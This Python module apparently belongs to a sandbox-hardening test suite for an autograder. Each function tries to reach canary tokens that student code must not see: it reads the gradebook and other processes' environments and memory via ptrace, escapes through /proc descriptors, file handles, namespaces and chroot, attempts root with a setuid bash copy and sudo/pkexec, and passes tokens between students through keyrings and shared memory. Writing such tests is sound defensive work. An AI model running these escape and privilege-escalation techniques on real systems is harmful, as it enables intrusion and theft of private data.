"""Attacks that look for what a student may not see: answers, checks, others' work, credentials."""
# ruff: noqa: PTH109, PTH115, PTH123, PTH208, SIM115 - as hostile code is written

import ctypes
import gc
import importlib
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

from .attack import attack
from .prelude import CANARY, WHERE, attempt, find, libc, places, proof


@attack(
    "reads the instructor's solutions, the checks, the secret, other hand-ins and the gradebook where they lie"
)
def reads_the_course():
    return find(*places())


@attack("searches every folder of the machine that people write in")
def searches_the_machine():
    found = ""
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/mnt", "/srv", "/opt", "/etc"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if not name.startswith(".venv")][:40]
            if folder.count("/") > 5:
                folders.clear()
            found += find(*(Path(folder, name) for name in files[:40]))
    return found


@attack("asks the gradebook for the other students")
def queries_the_gradebook():
    rows = (
        sqlite3.connect(f"{WHERE['class']}/gradebook.db")
        .execute("select * from student")
        .fetchall()
    )
    return find(rows, *(f"{row}" for row in rows))


@attack("reads the environment: its own, its parents', everybody's")
def reads_the_environment():
    environ, own = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), []
    while environ and environ[len(own)]:
        own.append(environ[len(own)])
    told = (
        subprocess.run(["env"], capture_output=True).stdout
        if Path("/usr/bin/env").exists()
        else b""
    )
    return find(dict(os.environ), *own, told, *Path("/proc").glob("[0-9]*/environ"))


@attack("reads command lines, folders and open files of other processes")
def reads_other_processes():
    found = find(*Path("/proc").glob("[0-9]*/cmdline"))
    for process in Path("/proc").glob("[0-9]*"):
        for link in ("root", "cwd"):
            found += find(*(Path(f"{process}/{link}/{place}") for place in places()))
        for number in attempt(os.listdir, process / "fd") or []:
            target = process / "fd" / number
            if (attempt(os.readlink, target) or "")[:1] == "/" and target.is_file():
                found += find(target)
    return found


@attack("searches its own memory for what a parent left there")
def searches_its_memory():
    found = set()
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in open("/proc/self/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start < 1 << 28:
                try:
                    memory.seek(start)
                    found |= set(re.findall(rb"canary-[0-9a-f]{32}", memory.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    continue
    return find(*found)


@attack("reads and writes the memory of the processes around it")
def reads_their_memory():
    found = set()
    for number in {1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {
        os.getpid()
    }:
        libc.ptrace(16, number, 0, 0)  # PTRACE_ATTACH
        try:
            maps = Path(f"/proc/{number}/maps").read_text().splitlines()
            with open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
                for line in (m for m in maps if " rw" in m):
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    found |= set(re.findall(rb"canary-[0-9a-f]{32}", memory.read(end - start)))
        except (OSError, ValueError, OverflowError):
            pass
        libc.ptrace(17, number, 0, 0)  # PTRACE_DETACH
    return find(*found)


@attack("imports the grader and its checks")
def imports_the_grader():
    sys.path[:0] = [WHERE["course"], *(os.fspath(place) for place in places())]
    for name in (
        "autograder.checks.hostile",
        "autograder.grading",
        "autograder.course",
        "nbgrader.api",
    ):
        module = attempt(importlib.import_module, name)
        if module:
            return find(Path(module.__file__).parent, module.__file__)
    return find(
        *(Path(m.__file__) for n, m in list(sys.modules.items()) if "inside" in n and m.__file__)
    )


@attack("walks up its frames and looks at every variable on the way")
def walks_the_frames():
    found, frame = "", sys._getframe()
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            text = attempt(repr, value) or ""
            found += find(text)
            if name in ("expected", "solution", "verdict", "cases", "secret", "reference"):
                found += proof(f"a variable {name}")
        frame = frame.f_back
    return found


@attack("hunts through all objects of the interpreter for other people's data")
def hunts_the_objects():
    found = set()
    for thing in gc.get_objects():
        for text in [
            thing,
            *(gc.get_referents(thing) if len(gc.get_referents(thing)) < 1000 else []),
        ]:
            if type(text) in (str, bytes) and 30 < len(text) < 1 << 20:
                found |= set(CANARY.findall(text if type(text) is str else text.decode("latin-1")))
    return find(*found)


@attack("climbs out by folders that an open descriptor holds")
def climbs_by_descriptors():
    found = ""
    for number in range(256):
        path = f"/proc/self/fd/{number}"
        for _ in range(12):
            path += "/.."
            found += find(*(Path(path + os.fspath(place)) for place in places()))
        folder = attempt(os.open, "..", os.O_RDONLY, 0o600, number)
        if folder is not None:
            found += str(attempt(os.listdir, folder))
    return find(found)


@attack("opens files by their handles, past every mount")
def opens_by_handle():
    found = b""
    for mount in ("/", "/usr", "/proc", "/tmp", "/dev"):
        folder = attempt(os.open, mount, os.O_RDONLY)
        if folder is None:
            continue
        for inode in range(1, 64):
            raw = (
                (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little")
            )
            handle = ctypes.create_string_buffer(raw)
            opened = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
            if opened >= 0:
                found += b"opened " + os.readlink(f"/proc/self/fd/{opened}").encode()
                for place in places():
                    deep = attempt(os.open, os.fspath(place).lstrip("/"), os.O_RDONLY, 0, opened)
                    found += attempt(os.read, deep, 1 << 16) or b""
    return find(found)


@attack("reads the disk and the memory of the machine as devices")
def reads_devices():
    found = ""
    for number, name in (
        (os.makedev(254, 0), "disk"),
        (os.makedev(1, 1), "memory"),
        (os.makedev(1, 2), "kernel"),
    ):
        attempt(os.mknod, name, 0o600 | 0o060000 if name == "disk" else 0o600 | 0o020000, number)
    for device in (
        "disk",
        "memory",
        "kernel",
        "/dev/vda",
        "/dev/sda",
        "/dev/mem",
        "/dev/kmsg",
        "/proc/kcore",
    ):
        descriptor = attempt(os.open, device, os.O_RDONLY | os.O_NONBLOCK)
        raw = attempt(os.read, descriptor, 4096) if descriptor is not None else b""
        found += proof(f"device {device}") if raw else ""
    return found


@attack("mounts, unshares and changes root to see more of the machine")
def changes_its_namespaces():
    found = ""
    for flags in (0x10000000, 0x00020000, 0x10020000, 0x20000000, 0x40000000, 0x70020000):
        if os.fork() == 0:
            try:
                libc.unshare(flags)
                for kind in ("user", "mnt", "pid", "net"):
                    for number in (1, os.getppid()):
                        there = attempt(os.open, f"/proc/{number}/ns/{kind}", os.O_RDONLY)
                        if there is not None:
                            libc.setns(there, 0)
                for what, target, kind, options in (
                    (b"none", b"/tmp", b"tmpfs", 0),
                    (b"/dev/vda", b"/tmp", b"ext4", 1),
                    (b"proc", b"/proc", b"proc", 0),
                    (b"/", b"/tmp", None, 4096 | 16384),
                    (None, b"/", None, 32 | 4096),
                ):
                    libc.mount(what, target, kind, options, None)
                attempt(os.chroot, "/proc/1/root")
                attempt(os.chdir, "../" * 20)
                attempt(os.chroot, ".")
                loot = find(*places(), *(Path("/tmp" + os.fspath(place)) for place in places()))
                Path("/tmp/loot").write_text(loot)
            finally:
                os._exit(0)
        attempt(os.wait)
        found += attempt(Path("/tmp/loot").read_text) or ""
    return found


@attack("becomes another user, root at best, and looks again")
def becomes_root():
    for change in (
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setgroups([0]),
        lambda: os.setresgid(0, 0, 0),
    ):
        attempt(change)
    attempt(libc.prctl, 8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
    attempt(libc.capset, ctypes.c_uint64(0x20080522), ctypes.create_string_buffer(b"\xff" * 24))
    found = find(*places())
    shell = Path("shell")
    attempt(lambda: shell.write_bytes(Path("/bin/bash").read_bytes()))
    attempt(shell.chmod, 0o6755)
    script = "cat " + " ".join(f"{place}/* {place}" for place in WHERE["places"])
    for command in (
        ["./shell", "-p", "-c"],
        ["su", "-c"],
        ["sudo", "-n", "sh", "-c"],
        ["pkexec", "sh", "-c"],
    ):
        done = attempt(
            lambda c=command: subprocess.run([*c, script], capture_output=True, timeout=1, stdin=-3)
        )
        found += find(done.stdout) if done else ""
    return found


@attack("takes what an earlier student left for it, and leaves something for the next")
def a_leaves_for_the_next():
    token = "canary-" + "ab" * 16
    for folder in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        os.getcwd(),
        os.environ.get("HOME", "/"),
    ):
        attempt(Path(folder, "left-for-the-next").write_text, token)
    raw = token.encode()
    libc.syscall(
        248, b"user", b"left", raw, len(raw), ctypes.c_int(-4)
    )  # add_key, the user's keyring
    number = libc.shmget(0x5EED, 4096, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0) if number >= 0 else None
    if address and address != ctypes.c_void_p(-1).value:
        ctypes.memmove(address, raw, len(raw))
    queue = attempt(lambda: libc.mq_open(b"/left", os.O_CREAT | os.O_RDWR, 0o666, None))
    attempt(lambda: libc.mq_send(queue, raw, len(raw), 0))
    return ""


@attack("is the next student, and looks for what the one before it left")
def b_is_the_next():
    found = find(
        *(
            Path(folder) / "left-for-the-next"
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".")
        )
    )
    key = libc.syscall(
        250, ctypes.c_long(10), ctypes.c_int(-4), b"user", b"left", 0
    )  # keyctl search
    if key > 0:
        raw = ctypes.create_string_buffer(100)
        libc.syscall(
            250, ctypes.c_long(11), ctypes.c_long(key), raw, ctypes.c_long(100)
        )  # keyctl read
        found += " keyring: " + find(raw.raw)
    number = libc.shmget(0x5EED, 4096, 0o666)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0) if number >= 0 else None
    if address and address != ctypes.c_void_p(-1).value:
        found += " shared memory: " + find(ctypes.string_at(address, 64))
    queue = attempt(lambda: libc.mq_open(b"/left", os.O_RDWR | os.O_NONBLOCK))
    if queue is not None and queue >= 0:
        raw = ctypes.create_string_buffer(8192)
        libc.mq_receive(queue, raw, 8192, None)
        found += " queue: " + find(raw.raw)
    return found
